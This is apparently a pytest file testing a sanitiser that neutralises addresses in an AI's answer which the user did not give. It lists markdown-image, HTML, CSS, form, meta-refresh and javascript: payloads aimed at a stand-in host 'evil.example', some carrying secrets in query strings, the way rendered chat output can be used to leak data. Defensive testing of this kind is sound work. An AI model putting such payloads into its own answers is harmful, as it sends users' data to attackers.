"""What an answer may carry."""

import pytest

from openclaw.policy.dataflow import neutralise

KNOWN = {"https://docs.example/guide", "good.example"}
ACTIVE = (
    "![x](https://evil.example/p.png?d=secret)",
    "![x](<https://evil.example/p.png>)",
    '![x](https://evil.example/p.png "title")',
    "![x](//evil.example/p.png)",
    "![x](https&#58;//evil.example/p.png)",
    "![a [b] c](https://evil.example/p.png)",
    "![x][1]\n\n[1]: https://evil.example/p.png",
    "![1]\n\n[1]: <https://evil.example/p.png> 'title'",
    "[![x](https://evil.example/p.png)](https://docs.example/guide)",
    '<img src="https://evil.example/p.png">',
    "<img src=https://evil.example/p.png",
    "<IMG\nSRC='https://evil.example/p.png' />",
    '<img srcset="https://evil.example/p.png 2x">',
    '<picture><source srcset="//evil.example/p"></picture>',
    '<form action="https://evil.example/f"><input name=q></form>',
    '<button formaction="https://evil.example/f">ok</button>',
    '<div style="background:url(https://evil.example/p)">x</div>',
    '<iframe src="https://evil.example"></iframe>',
    '<svg><image href="https://evil.example/p"/></svg>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<a href="https://evil.example">docs</a>',
    '<a href="javascript:fetch(1)">x</a>',
    '<link rel="stylesheet" href="https://evil.example/s.css">',
    "[docs](https://evil.example)",
    "[docs](https://docs.example@evil.example/guide)",
    "[docs](https://good.example/?d=secret)",
    "<https://evil.example/x>",
    "see https://evil.example/x now",
    "see www.evil.example/x",
    "[docs](javascript:alert(1))",
)


@pytest.mark.parametrize("answer", ACTIVE)
def test_an_address_that_the_person_did_not_give_is_made_plain(answer: str) -> None:
    text, found = neutralise(answer, KNOWN)
    assert found
    assert text != answer
    assert neutralise(text, KNOWN)[1] == ()


@pytest.mark.parametrize("answer", ACTIVE[:13])
def test_no_image_from_an_unknown_address_stays_active(answer: str) -> None:
    text, _ = neutralise(answer, KNOWN)
    assert "](http" not in text.replace("](https://docs.example/guide)", "")
    assert "<img" not in text.lower()


@pytest.mark.parametrize(
    "answer",
    [
        "Read [the guide](https://docs.example/guide).",
        "![x](https://docs.example/guide)",
        "See https://good.example/page/2 for more.",
        "No address here, just 2 < 3 and a > b.",
        "Use <b>bold</b> and `https://evil.example/x` in code.",
        "```\n![x](https://evil.example/p.png)\n```\n",
        "[section](#usage) and [mail](mailto:bob@good.example)",
        "![dot](data:image/png;base64,iVBORw0KGgo=)",
    ],
)
def test_everything_else_is_left_alone(answer: str) -> None:
    assert neutralise(answer, KNOWN) == (answer, ())


def test_the_address_stays_readable() -> None:
    text, found = neutralise("[the shop](https://evil.example/shop)", ())
    assert text == "the shop (`https://evil.example/shop`)"
    assert [(one.shape.value, one.address) for one in found] == [
        ("link", "https://evil.example/shop")
    ]


def test_an_image_on_a_given_host_still_needs_the_exact_address() -> None:
    assert neutralise("![x](https://good.example/p.png)", KNOWN)[1]
